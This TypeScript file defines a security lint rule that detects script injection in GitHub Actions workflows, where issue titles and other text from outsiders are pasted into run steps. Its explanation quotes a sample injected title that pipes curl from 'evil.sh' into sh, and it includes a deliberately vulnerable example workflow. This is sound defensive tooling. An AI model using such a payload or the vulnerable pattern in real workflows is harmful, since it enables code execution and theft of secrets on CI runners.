import { outsiderEvent } from '../../data/contexts.js'
import {
  type Flow,
  flowsInto,
  isCalled,
  isPrivileged,
  namesOutsiders,
  reasonOf,
  variableEdits
} from '../../injections.js'
import type { Problem } from '../../model.js'
import { rule } from '../../rule.js'

export default rule({
  id: 'workflow/script-injection',
  title: 'Text that outsiders write is run as code',
  why: '`${{ }}` is pasted into a script before its shell reads it, so a title such as `"; curl evil.sh | sh; "` is a command.',
  fix: 'Put the value into `env:` and let the script read the variable, quoted: `"$TITLE"`.',
  severity: 'error',
  topic: 'security',
  preset: 'recommended',
  edits: 'suggested',
  over: 'workflow',
  peers: { actionlint: 'expression', zizmor: 'template-injection', poutine: 'injection' },

  *check(workflow) {
    if (!workflow.triggers.some(({ event }) => outsiderEvent(event.value) || isCalled(event.value))) return
    if (!namesOutsiders(workflow)) return
    for (const job of workflow.jobs)
      for (const step of job.steps) {
        const flows = flowsInto(step, { file: workflow, steps: job.steps, job })
        // Of a variable that is only a part, a second one would hold the same.
        const isPart = flows.some(({ way, variable }) => variable === undefined && way[0]?.startsWith('env '))
        const edits = isPart ? undefined : variableEdits(flows, step, [...job.env, ...workflow.env])
        // All of a step is mended together: two edits would both add the variables.
        for (const [at, flow] of flows.entries()) yield { ...problemOf(flow), ...(at === 0 && edits && { edits }) }
      }
  },

  bad: {
    '.github/workflows/triage.yml': `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - run: echo "Thanks for \${{ github.event.issue.title }}"
`
  },
  good: {
    '.github/workflows/triage.yml': `name: CI
on: issues
permissions: {}
concurrency:
  group: ci-\${{ github.ref }}
  cancel-in-progress: true
jobs:
  greet:
    name: greet
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "Thanks for $TITLE"
`
  }
})

function problemOf({ sink, expression, path, events, way }: Flow): Problem {
  const by = way.length ? ` (through ${way.join(', through ')})` : ''
  return {
    at: expression.at,
    message: `${path}${by} becomes part of ${sink.what}, and outsiders write it: ${reasonOf(events)}`,
    ...(!isPrivileged(events) && { severity: 'warning' as const })
  }
}
